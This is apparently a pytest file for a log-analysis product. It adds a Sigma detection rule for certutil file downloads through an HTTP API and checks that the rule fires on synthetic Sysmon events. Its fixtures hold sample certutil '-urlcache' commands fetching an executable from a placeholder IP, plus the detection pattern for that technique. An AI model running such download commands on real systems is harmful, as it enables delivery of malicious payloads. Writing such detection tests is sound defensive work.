"""A Sigma rule over the real HTTP API: added as its YAML text, tested against one record, and
firing on the same Sysmon event whichever shipper sent it; a rule seclake cannot run is refused
with its reason."""

from __future__ import annotations

import json
import time

import pytest

from tests.sigma.sigmahq import nxlog, winlogbeat

DAO = "ds/eventwatch_bucket_dao"
TEST = "ds/eventwatch_rule_test"
RULE_ID = "5f8a7c51-3b1e-4c43-9a55-7e0d1c2b3a41"
# Our own rule, written as SigmaHQ writes process-creation rules.
SIGMA = f"""title: Certutil Downloads a File
id: {RULE_ID}
status: test
description: certutil.exe used to fetch a file from a URL.
references:
    - https://lolbas-project.github.io/lolbas/Binaries/Certutil/
author: seclake tests
date: 2026-01-01
tags:
    - attack.command-and-control
    - attack.t1105
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        - Image|endswith: '\\certutil.exe'
        - OriginalFileName: 'CertUtil.exe'
    selection_cli:
        CommandLine|contains|all:
            - 'urlcache'
            - 'http'
    filter_user:
        User: null
    condition: all of selection_* and not filter_user
falsepositives:
    - Administrators fetching certificates
level: high
"""


def _event(record_id: int, command: str, when: str) -> dict:
    """A Sysmon event 1 as the EVTX renders it (SigmaHQ's regression data's shape)."""
    return {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon",
                                         "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
            "EventID": 1, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0, "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": when}}, "EventRecordID": record_id,
            "Execution": {"#attributes": {"ProcessID": 3544, "ThreadID": 4272}},
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS7.corp.local",
            "Security": {"#attributes": {"UserID": "S-1-5-18"}},
        },
        "EventData": {
            "RuleName": "-", "UtcTime": when[:23].replace("T", " "),
            "ProcessGuid": "{0197231E-005A-6928-A50B-000000000D00}", "ProcessId": 4460,
            "Image": "C:\\Windows\\System32\\certutil.exe", "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
            "Description": "CertUtil.exe", "Product": "Microsoft® Windows® Operating System",
            "Company": "Microsoft Corporation", "OriginalFileName": "CertUtil.exe",
            "CommandLine": command, "CurrentDirectory": "C:\\Users\\jdoe\\",
            "User": "CORP\\jdoe", "LogonId": "0x3e7", "IntegrityLevel": "Medium",
            "Hashes": "SHA256=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F9",
            "ParentProcessId": 3120, "ParentImage": "C:\\Windows\\System32\\cmd.exe",
            "ParentCommandLine": "cmd.exe", "ParentUser": "CORP\\jdoe",
        },
    }


@pytest.fixture(scope="module")
def srv(tmp_path_factory):
    from tests.conftest import running_server  # noqa: PLC0415

    with running_server(tmp_path_factory.mktemp("sigma-api")) as s:
        s.token = s.login()
        yield s


def test_a_sigma_rule_is_added_tested_and_fires_from_both_shippers(srv):
    added = srv.call(DAO, {"action": "add", "sigma": SIGMA}, token=srv.token)
    rule = added["bucket"]
    assert (rule["name"], rule["behavior"]) == (RULE_ID, "Certutil Downloads a File")
    assert (rule["risks"], rule["riskScore"], rule["level"], rule["status"]) == (["T1105"], 5000, "high", "test")
    assert rule["keyField"] == "host.name" and rule["sigma"] == SIGMA
    assert rule["falsePositives"] == ["Administrators fetching certificates"]

    fetch = _event(1, "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe", "2026-11-20T10:00:00.000Z")
    benign = _event(2, "certutil.exe -dump cert.cer", "2026-11-20T10:00:01.000Z")
    tested = srv.call(TEST, {"sigma": SIGMA, "input": json.loads(winlogbeat(fetch))}, token=srv.token)
    # A record object is taken as it is: a raw Winlogbeat document has its fields at the top.
    assert tested["name"] == RULE_ID

    lines = [winlogbeat(fetch), nxlog(fetch), winlogbeat(benign), nxlog(benign)]
    r = srv.http.post("/api/import/windows", content="\n".join(lines).encode(),
                      headers={"Servicetoken": srv.token})
    assert r.json()["response"]["accepted"] == 4
    behaviors = _behaviors(srv, RULE_ID, want=2)
    assert len(behaviors) == 2, behaviors  # the fetch from each shipper; the dump from neither
    for b in behaviors:
        assert (b["key"], b["risks"], b["riskScore"]) == ("WS7.corp.local", ["T1105"], 5000)


def test_rule_test_says_whether_a_line_fires(srv):
    fetch = _event(3, "certutil -urlcache -f https://203.0.113.9/x x", "2026-11-20T10:00:02.000Z")
    for render in (winlogbeat, nxlog):
        got = srv.call(TEST, {"sigma": SIGMA, "input": render(fetch)}, token=srv.token)
        assert got["matched"] and got["wouldFire"] and got["key"] == "WS7.corp.local"
    quiet = _event(4, "certutil -hashfile a.exe", "2026-11-20T10:00:03.000Z")
    assert not srv.call(TEST, {"sigma": SIGMA, "input": nxlog(quiet)}, token=srv.token)["matched"]


def test_a_rule_seclake_cannot_run_is_refused_with_its_reason(srv):
    macos = SIGMA.replace("product: windows", "product: macos").replace(RULE_ID, RULE_ID[:-1] + "2")
    message = srv.fail(DAO, {"action": "add", "sigma": macos}, srv.token, status=400)
    assert "sigma" in message and "log source not supported" in message and "macos" in message
    broken = srv.fail(DAO, {"action": "add", "sigma": "title: x\nlogsource: {product: windows}\ndetection: [1"},
                      srv.token, status=400)
    assert "invalid Sigma" in broken


def _behaviors(srv, rule: str, want: int) -> list[dict]:
    deadline = time.monotonic() + 20
    while True:
        got = srv.call("ds/fsm_behavior_search", {"options": {
            "range_from": 0, "range_to": 4_000_000_000_000, "fetchLimit": 50, "searchStr": f'behaviorRule:"{rule}"'}},
            token=srv.token)
        hits = [h["_source"] for h in got["hits"]["hits"]]
        if len(hits) >= want or time.monotonic() > deadline:
            return hits
        time.sleep(0.2)
